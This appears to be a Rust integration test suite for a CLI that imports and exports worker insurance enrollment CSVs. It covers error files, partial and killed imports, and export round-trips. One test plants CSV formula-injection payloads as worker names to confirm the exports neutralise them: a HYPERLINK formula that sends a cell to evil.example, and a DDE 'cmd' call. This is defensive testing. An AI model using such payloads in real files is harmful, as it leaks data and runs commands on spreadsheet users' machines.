//! `jaminan import enrollments` and `jaminan export enrollments` as an operator runs them, on both
//! databases: the report, the error file next to the input, dry runs and partial imports, a
//! process killed in the middle, and an export that imports back into the same statistics.
use crate::common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use common::{TestApp, data};
use serde_json::json;

const HEADER: &str = "nik,full_name,occupation,district_code,starts_on,ends_on,funding_source,programs,declared_monthly_income,membership_number";

fn jaminan(app: &TestApp, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_jaminan"))
        .args(args)
        .env("DATABASE_URL", app.database_url())
        .env("RUST_LOG", "warn")
        .output()
        .unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// A folder of its own per test, removed at the end.
struct Folder(PathBuf);

impl Folder {
    fn new() -> Folder {
        let path = std::env::temp_dir().join(format!("jaminan-import-{}", uuid::Uuid::new_v4()));
        std::fs::create_dir_all(&path).unwrap();
        Folder(path)
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.0.join(name);
        std::fs::write(&path, text).unwrap();
        path
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn arg(path: &Path) -> &str {
    path.to_str().unwrap()
}

backend_test!(the_cli_reports_writes_an_error_file_and_imports_partially, |app: TestApp| async move {
    let folder = Folder::new();
    let good = "3603011505850001,Budi Santoso,FISHER,36.03.01,2023-01-01,2023-12-31,,,,\n\
                3603015505900002,Siti Aminah,STREET_VENDOR,36.03.02,2023-01-01,,,,,";
    let list = folder.write("list.csv", &format!("{HEADER}\n{good}\n123,Bad,FISHER,36.03.01,2023-01-01,,,,,\n3603011505850003,Nowhere,FISHER,36.03.99,2023-01-01,,,,,\n"));

    let refused = jaminan(&app, &["import", "enrollments", arg(&list), "--regency", "36.03"]);
    assert!(!refused.status.success());
    let report = stdout(&refused);
    assert!(report.contains("rows read:            4"), "{report}");
    assert!(report.contains("rows in error:        2"), "{report}");
    assert!(report.contains("nothing written"), "{report}");
    let errors_path = folder.0.join("list.errors.csv");
    let errors = std::fs::read_to_string(&errors_path).unwrap();
    assert_eq!(errors.lines().next(), Some("line,column,value,code,message"));
    assert!(errors.lines().nth(1).unwrap().starts_with("4,nik,123,BAD_USER_INPUT,"), "{errors}");
    assert!(errors.lines().nth(2).unwrap().starts_with("5,district_code,36.03.99,BAD_USER_INPUT,"), "{errors}");
    assert_eq!(errors.lines().count(), 3);
    assert_eq!(app.count_rows("worker").await, 0);

    let dry = jaminan(&app, &["import", "enrollments", arg(&list), "--regency", "36.03", "--dry-run", "--partial"]);
    assert!(stdout(&dry).contains("dry run: nothing written"));
    assert_eq!((app.count_rows("worker").await, app.count_rows("audit_log").await), (0, 0));

    let partial = jaminan(&app, &["import", "enrollments", arg(&list), "--regency", "36.03", "--partial"]);
    assert!(stdout(&partial).contains("workers registered:   2"), "{}", stdout(&partial));
    assert!(stdout(&partial).contains("written"));
    assert_eq!((app.count_rows("worker").await, app.count_rows("coverage").await), (2, 2));
    assert!(app.stats_differences().await.is_empty());

    // The fixed file: the rows imported before are skipped, the error file goes away.
    let fixed = folder.write("list.csv", &format!("{HEADER}\n{good}\n"));
    let again = jaminan(&app, &["import", "enrollments", arg(&fixed), "--regency", "36.03"]);
    assert!(again.status.success(), "{again:?}");
    assert!(stdout(&again).contains("rows already imported: 2"), "{}", stdout(&again));
    assert!(stdout(&again).contains("nothing to write"));
    assert!(!errors_path.exists());
    assert_eq!(app.count_rows("worker").await, 2);
});

backend_test!(the_cli_reads_clerks_lists_and_refuses_excel_damage, |app: TestApp| async move {
    let folder = Folder::new();
    let list = folder.write("daftar.csv", crate::import::CLERK_FILE);
    let imported = jaminan(&app, &["import", "enrollments", arg(&list), "--regency", "36.03"]);
    assert!(imported.status.success(), "{imported:?}");
    assert!(stdout(&imported).contains("workers registered:   3"), "{}", stdout(&imported));
    assert!(!folder.0.join("daftar.errors.csv").exists());
    assert_eq!((app.count_rows("worker").await, app.count_rows("coverage").await), (3, 3));

    // Several errors in a row, each on its own line of the error file, with the file's column
    // names and the values; the line counted right in a CRLF file.
    let errors_list = folder.write(
        "salah.csv",
        "NIK;Nama;Pekerjaan;Kecamatan;Tanggal Mulai;Penghasilan\r\n\
         3603011505850011;Rina;Pemulung;Balaraja;01/07/2023;1.500.000\r\n\
         \r\n\
         123;Bad;PILOT;Balaraja;1 Juli 2023;1,5 juta\r\n",
    );
    let refused = jaminan(&app, &["import", "enrollments", arg(&errors_list), "--regency", "36.03"]);
    assert!(!refused.status.success());
    let errors = std::fs::read_to_string(folder.0.join("salah.errors.csv")).unwrap();
    let rows: Vec<&str> = errors.lines().collect();
    assert_eq!(rows.len(), 4, "{errors}");
    assert!(rows[1].starts_with("4,NIK,123,BAD_USER_INPUT,"), "{errors}");
    assert!(rows[2].starts_with("4,Pekerjaan,PILOT,BAD_USER_INPUT,"), "{errors}");
    assert!(rows[3].starts_with("4,Penghasilan,\"1,5 juta\",BAD_USER_INPUT,"), "{errors}");

    // Excel's damage refuses the whole file, with the good rows.
    let damaged = folder.write(
        "rusak.csv",
        "NIK;Nama;Pekerjaan;Kecamatan;Tanggal Mulai\r\n\
         3603011505850021;Rina;Pemulung;Balaraja;01/07/2023\r\n\
         3,60313E+15;Siti;Pemulung;Balaraja;01/07/2023\r\n",
    );
    let refused = jaminan(&app, &["import", "enrollments", arg(&damaged), "--regency", "36.03", "--partial"]);
    assert!(!refused.status.success());
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("scientific notation") && said.contains("as Text"), "{said}");
    assert_eq!(app.count_rows("worker").await, 3);
});

backend_test!(a_killed_import_leaves_nothing_written, |app: TestApp| async move {
    let folder = Folder::new();
    let mut file = format!("{HEADER}\n");
    for n in 0..300_000 {
        let (day, serial) = (10 + n / 9_000, 1 + n % 9_000);
        file.push_str(&format!("360301{day:02}0585{serial:04},Worker {n},FISHER,36.03.01,2023-01-01,,,,,\n"));
    }
    let list = folder.write("big.csv", &file);
    let mut child = Command::new(env!("CARGO_BIN_EXE_jaminan"))
        .args(["import", "enrollments", arg(&list), "--regency", "36.03"])
        .env("DATABASE_URL", app.database_url())
        .env("RUST_LOG", "warn")
        .spawn()
        .unwrap();
    // Waited out on purpose: the import is killed well into its writing.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert!(child.try_wait().unwrap().is_none(), "the import should still be running");
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!((app.count_rows("worker").await, app.count_rows("coverage").await), (0, 0));
    assert_eq!(app.count_rows("audit_log").await, 0);
    assert!(app.stats_differences().await.is_empty());
});

const STATS: &str = "query($a: String, $y: Int!) { coverageStats(areaCode: $a, year: $y) { coveredWorkers premiumCost \
    byOccupation { occupation coveredWorkers } byGender { gender coveredWorkers } } }";

backend_test!(an_export_imports_back_into_the_same_statistics, |app: TestApp| async move {
    let folder = Folder::new();
    let list = folder.write(
        "2023.csv",
        &format!(
            "{HEADER}\n\
             3603011505850001,Budi Santoso,FISHER,36.03.01,2023-01-01,2023-12-31,APBD,JKK|JKM,1000000,111\n\
             3603015505900002,Siti Aminah,STREET_VENDOR,36.03.02,2022-07-01,,APBDES,JKK|JKM|JHT,2500000,\n\
             3603010101800003,Ahmad,FARMER,36.03.01,2023-03-15,2023-08-31,SELF,,,\n\
             3603014404750004,Dewi Lestari,FARM_LABORER,36.03.02,2021-01-01,2022-12-31,APBD,,,\n"
        ),
    );
    assert!(jaminan(&app, &["import", "enrollments", arg(&list), "--regency", "36.03"]).status.success());
    // Coverage paid by another regency is not 36.03's to export.
    let other = app.register("3671011505850009", "Rina", "36.71", Some("36.71.01"), "OTHER").await;
    app.enroll(&other, "36.71", "2023-01-01", None).await;

    let exported = folder.0.join("export.csv");
    let output = jaminan(&app, &["export", "enrollments", "--regency", "36.03", "--year", "2023", arg(&exported)]);
    assert!(output.status.success(), "{output:?}");
    assert!(stdout(&output).contains("3 coverage periods written"), "{}", stdout(&output));
    let text = std::fs::read_to_string(&exported).unwrap();
    assert_eq!(text.lines().next(), Some(HEADER));
    assert!(
        text.contains("3603015505900002,Siti Aminah,STREET_VENDOR,36.03.02,2022-07-01,,APBDES,JKK|JKM|JHT,2500000,")
    );
    assert!(text.contains(",SELF,JKK|JKM,1000000,"));
    assert!(!text.contains("Dewi") && !text.contains("Rina"));
    assert!(!stdout(&jaminan(&app, &["export", "enrollments", "--regency", "36.03", "--year", "2023"])).is_empty());

    let empty = TestApp::spawn(app.backend).await;
    let imported = jaminan(&empty, &["import", "enrollments", arg(&exported), "--regency", "36.03"]);
    assert!(imported.status.success(), "{imported:?}");
    for area in ["36.03", "36.03.01", "36.03.02"] {
        let variables = json!({ "a": area, "y": 2023 });
        let (original, copy) = (app.gql(STATS, variables.clone()).await, empty.gql(STATS, variables).await);
        assert_eq!(data(&original), data(&copy), "{area}");
    }
    let covered = empty.gql(STATS, json!({ "a": "36.03", "y": 2023 })).await;
    assert_eq!(data(&covered)["coverageStats"]["coveredWorkers"], 3);
    assert!(empty.stats_differences().await.is_empty());
    empty.cleanup().await;
});

/// Whether a spreadsheet would run the cell as a formula (OWASP's characters).
fn starts_like_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every cell of a CSV file, as a spreadsheet reads them.
fn cells(path: &Path) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(path).unwrap();
    reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

const NAMES: &str = "{ workers(first: 50) { nodes { nik fullName } } }";

backend_test!(exports_make_formulas_inert_and_import_back_exactly, |app: TestApp| async move {
    let folder = Folder::new();
    // Names the API accepts that a spreadsheet would still take for a formula (a leading '-'),
    // or that hold a quote where the neutralisation puts one.
    let names = ["-Budi Santoso", "'-Siti Aminah", "'Aisyah", "Dewi-Lestari", "Ahmad, \"Mat\""];
    for (n, name) in names.into_iter().enumerate() {
        let worker =
            app.register(&format!("360301150585000{}", n + 1), name, "36.03", Some("36.03.01"), "FISHER").await;
        app.enroll(&worker, "36.03", "2023-01-01", None).await;
    }
    let exported = folder.0.join("export.csv");
    let output = jaminan(&app, &["export", "enrollments", "--regency", "36.03", "--year", "2023", arg(&exported)]);
    assert!(output.status.success(), "{output:?}");
    let text = std::fs::read_to_string(&exported).unwrap();
    for written in
        [",\"'-Budi Santoso\",", ",\"''-Siti Aminah\",", ",'Aisyah,", ",Dewi-Lestari,", ",\"Ahmad, \"\"Mat\"\"\","]
    {
        assert!(text.contains(written), "{written} in {text}");
    }
    assert!(!cells(&exported).iter().any(|cell| starts_like_a_formula(cell)), "{text}");

    // Imported into an empty database: the same names, and the same file exported again.
    let copy = TestApp::spawn(app.backend).await;
    let imported = jaminan(&copy, &["import", "enrollments", arg(&exported), "--regency", "36.03"]);
    assert!(imported.status.success(), "{imported:?}");
    let (original, copied) =
        (app.gql_as(&app.admin, NAMES, json!({})).await, copy.gql_as(&copy.admin, NAMES, json!({})).await);
    assert_eq!(data(&original), data(&copied));
    let mut stored: Vec<String> = data(&copied)["workers"]["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["fullName"].as_str().unwrap().to_owned())
        .collect();
    stored.sort();
    let mut expected: Vec<String> = names.iter().map(|n| n.to_string()).collect();
    expected.sort();
    assert_eq!(stored, expected);
    let again = folder.0.join("again.csv");
    assert!(
        jaminan(&copy, &["export", "enrollments", "--regency", "36.03", "--year", "2023", arg(&again)])
            .status
            .success()
    );
    assert_eq!(std::fs::read_to_string(&again).unwrap(), text);
    copy.cleanup().await;
});

backend_test!(formulas_stored_before_the_rule_are_exported_inert_and_refused_on_import, |app: TestApp| async move {
    use sea_orm::ConnectionTrait;
    let folder = Folder::new();
    let formulas = [r#"=HYPERLINK("http://evil.example/?x="&A2,"klik")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)"];
    for (n, formula) in formulas.into_iter().enumerate() {
        let worker = app
            .register(&format!("360301150585000{}", n + 1), "Placeholder", "36.03", Some("36.03.01"), "FISHER")
            .await;
        app.enroll(&worker, "36.03", "2023-01-01", None).await;
        // As registerWorker accepted them before the rule.
        let sql = format!("UPDATE worker SET full_name = '{}' WHERE id = {worker}", formula.replace('\'', "''"));
        app.state.db.execute_unprepared(&sql).await.unwrap();
    }
    let exported = folder.0.join("export.csv");
    let output = jaminan(&app, &["export", "enrollments", "--regency", "36.03", "--year", "2023", arg(&exported)]);
    assert!(output.status.success(), "{output:?}");
    let text = std::fs::read_to_string(&exported).unwrap();
    for formula in formulas {
        let written = format!(",\"'{}\",", formula.replace('"', "\"\""));
        assert!(text.contains(&written), "{written} in {text}");
    }
    assert!(!cells(&exported).iter().any(|cell| starts_like_a_formula(cell)), "{text}");

    // Read back, they are the names registerWorker now refuses: error rows, nothing written.
    let copy = TestApp::spawn(app.backend).await;
    let imported = jaminan(&copy, &["import", "enrollments", arg(&exported), "--regency", "36.03"]);
    assert!(!imported.status.success(), "{imported:?}");
    let errors_path = folder.0.join("export.errors.csv");
    let errors = std::fs::read_to_string(&errors_path).unwrap();
    // Each error row repeats the name it refused, made inert like the export's.
    for (line, formula) in (2..=4).zip(formulas) {
        let value = format!("\"'{}\"", formula.replace('"', "\"\""));
        let row = format!("\n{line},full_name,{value},BAD_USER_INPUT,\"fullName must not start with =, + or @");
        assert!(errors.contains(&row), "{row} in {errors}");
    }
    assert!(!cells(&errors_path).iter().any(|cell| starts_like_a_formula(cell)), "{errors}");
    assert_eq!(copy.count_rows("worker").await, 0);
    copy.cleanup().await;
});
